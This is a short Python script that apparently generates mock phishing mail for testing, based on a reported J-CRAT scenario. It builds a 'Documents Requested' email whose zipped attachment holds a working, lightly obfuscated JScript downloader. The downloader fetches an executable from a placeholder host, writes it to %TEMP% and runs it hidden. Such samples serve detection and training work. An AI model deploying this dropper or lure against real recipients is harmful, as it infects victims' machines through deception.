"""English mass mail with a script in a plain zip, one per recipient.
Scenario: J-CRAT, first half of fiscal 2016, 2 (1): foreign-language mail, .js in zip."""
from kit import *

JS = """var a = "WScr" + "ipt.Sh" + "ell"; var b = "MSXML2.XML" + "HTTP"; var c = "ADODB" + ".Str" + "eam";
var s = new ActiveXObject(a), x = new ActiveXObject(b), t = new ActiveXObject(c);
x.open("GET", "http://" + "downloads.invalid" + "/87" + "hg.exe", false); x.send();
t.open(); t.type = 1; t.write(x.responseBody);
t.saveToFile(s.ExpandEnvironmentStrings("%TEMP%") + "/87hg.exe", 2);
s.run("%TEMP%/87hg.exe", 0, false);
"""


def make():
    z = Zip().add("invoice_scan_0719.js", JS.encode()).bytes()
    return (Mail("Documents Requested", "office71@mail.example.br", name="Irma Reyes",
                 to="j-yamada@example.ac.jp")
            .text("Dear j-yamada,\n\nPlease find attached documents as requested.\n\nBest Regards,\nIrma Reyes\n")
            .attach("Untitled(7).zip", z, "application/zip").bytes())
